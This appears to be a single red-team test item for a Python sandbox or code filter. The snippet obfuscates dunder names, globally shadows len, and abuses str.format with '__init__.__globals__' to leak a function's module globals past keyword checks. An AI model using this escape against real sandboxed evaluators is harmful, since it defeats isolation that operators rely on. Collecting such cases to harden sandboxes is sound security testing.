# family: red team, round 68b (len made a module global from inside a function by global + import-free def)
class Evil:
    def __rmul__(self, other):
        u = "x_"[1] + "x_"[1]
        return "{0." + u + "init" + u + "." + u + "globals" + u + "}"
def show():
    return 1
def setup():
    global len
    def len(x):
        return Evil()
setup()
print(("{}" * len(show)).format(show))
